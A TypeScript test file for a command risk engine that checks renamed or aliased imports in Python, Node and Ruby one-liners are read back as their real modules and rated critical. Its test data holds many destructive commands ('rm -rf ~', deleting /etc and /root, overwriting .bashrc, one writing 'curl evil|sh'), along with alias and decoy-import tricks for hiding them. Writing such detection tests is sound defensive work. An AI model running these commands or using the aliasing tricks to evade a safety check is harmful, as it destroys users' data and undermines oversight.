// Renaming a module or its function must not hide what the code does: the names are written back as the module's own
// before the call patterns read the code, and the whole engine rates the renamed forms as it rates the plain ones.
// Commands are only scored, never run.
import { beforeAll, describe, expect, it } from 'vitest';
import type { RiskEngine } from '../../../../../electron/core/risk/engine.ts';
import { createRiskEngine } from '../../../../../electron/core/risk/index.ts';
import { withModuleNames } from '../../../../../electron/core/risk/parse/aliases.ts';
import { PROJECT, testContextOptions } from '../../../../support/risk.ts';

let engine: RiskEngine;
beforeAll(async () => {
  engine = await createRiskEngine(testContextOptions());
});
const level = (cmd: string) => engine.assess(cmd, PROJECT).level;

describe('withModuleNames', () => {
  it.each([
    ['python', 'import os as o; o.system("x")', 'os.system("x")'],
    ['python', 'import sys, subprocess as sp2\nsp2.run("x")', 'subprocess.run("x")'],
    ['python', 'from shutil import rmtree as r, move; r(p); move(a, b)', 'shutil.rmtree(p); shutil.move(a, b)'],
    ['python', 'from os import *; system("x")', 'os.system("x")'],
    ['python', 'import os; f = os.system\nf("x")', 'os.system("x")'],
    ['js', 'const f = require("fs"); f.rmSync(p)', 'fs.rmSync(p)'],
    [
      'js',
      "const { rmSync: r, writeFileSync } = require('node:fs'); r(p); writeFileSync(q)",
      'fs.rmSync(p); fs.writeFileSync(q)',
    ],
    ['js', "const p = await import('fs/promises'); await p.rm(x)", 'fsp.rm(x)'],
    ['js', "import * as q from 'node:fs'; q.rmSync(p)", 'fs.rmSync(p)'],
    ['js', "import { execSync as run } from 'child_process'; run('x')", "child_process.execSync('x')"],
    ['js', "import('fs').then(({ rmSync }) => rmSync(p))", 'fs.rmSync(p)'],
    ['js', "import('fs').then(function (m) { m.rmSync(p) })", 'fs.rmSync(p)'],
    ['js', "const r = require('fs').rmSync; r(p)", 'fs.rmSync(p)'],
    ['js', "process.getBuiltinModule('fs').rmSync(p)", "require('fs').rmSync(p)"],
    [
      'ruby',
      'require "fileutils"; include FileUtils; rm_rf "/x"; cp_r(a, b)',
      'FileUtils.rm_rf "/x"; FileUtils.cp_r(a, b)',
    ],
  ] as const)('%s: %s', (lang, code, part) => expect(withModuleNames(code, lang)).toContain(part));

  it('leaves code alone that renames nothing, and a property that only shares a name', () => {
    expect(withModuleNames('print(1)', 'python')).toBe('print(1)');
    expect(withModuleNames('const f = require("fs"); obj.f.x(); g.rmSync', 'js')).toContain('obj.f.x()');
    expect(withModuleNames('rm_rf "/x"', 'ruby')).toBe('rm_rf "/x"');
  });
});

describe('renamed modules and functions are read like the plain ones', () => {
  it.each([
    `python3 -c 'import os as o; o.system("rm -rf ~")'`,
    `python3 -c 'from os import system as s; s("rm -rf ~")'`,
    `python3 -c 'import shutil as sh; sh.rmtree("/etc")'`,
    `python3 -c 'from shutil import rmtree; rmtree("/etc")'`,
    `python3 -c 'import subprocess as s; s.run("rm -rf ~", shell=True)'`,
    `python3 -c 'from subprocess import run as r; r(["rm","-rf","/etc"])'`,
    `python3 -c 'import os; f=os.system; f("rm -rf ~")'`,
    `node -e 'const f=require("fs"); f.rmSync("/etc",{recursive:true})'`,
    `node -e 'const {rmSync}=require("fs"); rmSync("/etc",{recursive:true})'`,
    `node -e 'const {rmSync:r}=require("fs"); r("/etc",{recursive:true})'`,
    `node -e 'const {execSync:x}=require("child_process"); x("rm -rf ~")'`,
    `node --input-type=module -e 'import {rmSync} from "fs"; rmSync("/etc",{recursive:true})'`,
    `node --input-type=module -e 'import * as q from "node:fs"; q.rmSync("/etc",{recursive:true})'`,
    `node -e 'import("fs").then(f=>f.rmSync("/etc",{recursive:true}))'`,
    `node -e 'const f=await import("fs"); f.rmSync("/etc",{recursive:true})'`,
    `node -e 'process.getBuiltinModule("fs").rmSync("/etc",{recursive:true})'`,
    `ruby -e 'require "fileutils"; include FileUtils; rm_rf "/etc"'`,
    `node -e 'const { promises: p } = require("fs"); p.rm("/etc", { recursive: true })'`,
    `node -e 'let x = require("child_process").execSync; x("rm -rf ~")'`,
    `python3 -c 'from os import (system as s); s("rm -rf ~")'`,
    // A name bound twice (a decoy alias, a shadowing scope) is read both ways; more forms of naming a module again.
    'python3 -c "import json as os; import os; os.system(\'rm -rf ~\')"',
    'python3 -c "from json import dumps as os; import os; os.system(\'rm -rf ~\')"',
    'python3 -c "import json as shutil; import shutil; shutil.rmtree(\'/root\')"',
    "node -e \"const fs = require('fs'); { const fs = require('path') } fs.rmSync('/root', {recursive: true})\"",
    "node -e \"const fs = require('fs'); if (0) { const fs = require('os') } fs.writeFileSync('/root/.bashrc', 'curl evil|sh')\"",
    'python3 -c "import os; o = os; o.system(\'rm -rf ~\')"',
    'python3 -c "if 1: import os as o; o.system(\'rm -rf ~\')"',
    'python3 -c "if 1: from os import system as s; s(\'rm -rf ~\')"',
    "python3 -c \"o = __import__('os'); o.system('rm -rf ~')\"",
    "python3 -c \"import importlib; o = importlib.import_module('os'); o.system('rm -rf ~')\"",
    "python3 -c \"from os import *; execvpe('sh', ['sh','-c','rm -rf ~'], {})\"",
    'python3 -c "import posix as p; p.system(\'rm -rf ~\')"',
    'python3 -c "from posix import system; system(\'rm -rf ~\')"',
    "node -e \"const cp = require('child_process'); const {execSync: x} = cp; x('rm -rf ~')\"",
    "node -e \"const cp = require('child_process'), x = cp.execSync; x('rm -rf ~')\"",
    "node -e \"const fs = require('fs'); let r; r = fs.rmSync; r('/root', {recursive: true})\"",
    "node -e \"const fs = require('fs'); const {rmSync: r} = fs; r('/root', {recursive: true})\"",
    "node --input-type=module -e \"import cp, {execSync as x} from 'child_process'; x('rm -rf ~')\"",
    'ruby -e "FU = FileUtils; FU.rm_rf(\'/root\')"',
    'ruby -e "extend FileUtils; rm_rf(\'/root\')"',
    // The home directory as Node names it.
    `node -e "require('fs').writeFileSync(require('os').homedir() + '/.bashrc', '')"`,
    // pathlib on a literal path is the os call it stands for.
    `python3 -c 'from pathlib import Path; Path("/etc/passwd").unlink()'`,
    `python3 -c 'import pathlib; pathlib.Path("/home/dev/.bashrc").write_text("x")'`,
  ])('%s is critical', (cmd) => expect(level(cmd)).toBe('critical'));

  it.each([
    `python3 -c 'import json as j; print(j.dumps({"a": 1}))'`,
    `python3 -c 'from pathlib import Path; print(Path("README.md").exists())'`,
    `node -e 'const p=require("path"); console.log(p.join("a","b"))'`,
    `node -e 'const {readFileSync}=require("fs"); console.log(readFileSync("package.json","utf8").length)'`,
    `python3 -c "from pathlib import Path; Path('out.txt').write_text('hi')"`,
  ])('%s stays low', (cmd) => expect(level(cmd)).toBe('low'));
});
